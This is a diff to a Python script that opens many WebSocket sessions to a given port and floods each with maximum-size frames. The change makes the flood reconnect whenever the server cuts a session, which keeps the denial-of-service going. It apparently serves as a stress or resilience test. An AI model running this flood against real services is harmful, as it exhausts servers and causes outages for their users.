@@ -6,7 +6,6 @@ They print "begun" once all of them are at it, and go on until they are killed. 
 import contextlib
 import itertools
 import json
-import os
 import resource
 import socket
 import subprocess
@@ -107,24 +106,31 @@ def frames(port, cookie="", person="", event="unheard-of", **_):
     line = f"Cookie: {cookie}\r\n" if cookie else ""
     begin, end = f'421["{event}",{{"conversation":"nowhere","filler":"'.encode(), b'"}]'
     biggest = frame(1, begin + b"x" * (FRAME - len(begin + end)) + end, mask=b"\1\2\3\4")
-    sockets = [WebSocket(port, WEBSOCKET, line) for _ in range(CLIENTS)]
-    for websocket in sockets:
-        websocket.send(CONNECT.format(person=person))
-        while not websocket.receive().startswith("40"):
-            pass
-    threads = [threading.Thread(target=flood, args=(websocket.http.sock, biggest)) for websocket in sockets]
-    for thread in threads:
-        thread.start()
+    begins = CONNECT.format(person=person)
+    sockets = [joined(port, line, begins) for _ in range(CLIENTS)]
+    for sock in sockets:
+        threading.Thread(target=flood, args=(sock, biggest, lambda: joined(port, line, begins))).start()
     print("begun", flush=True)
 
 
-def flood(sock, data):
-    sock.settimeout(None)
-    try:
-        while True:
-            sock.sendall(data)
-    except OSError:
-        os._exit(1)  # the server has cut it: the attack is over
+def joined(port, line, begins):
+    """Return the socket of a session that has connected."""
+    websocket = WebSocket(port, WEBSOCKET, line)
+    websocket.send(begins)
+    while not websocket.receive().startswith("40"):
+        pass
+    websocket.http.sock.settimeout(None)
+    return websocket.http.sock
+
+
+def flood(sock, data, another):
+    """Send without end; who is cut, since it answers no ping, comes back."""
+    while True:
+        try:
+            while True:
+                sock.sendall(data)
+        except OSError:
+            sock = another()
 
 
 if __name__ == "__main__":
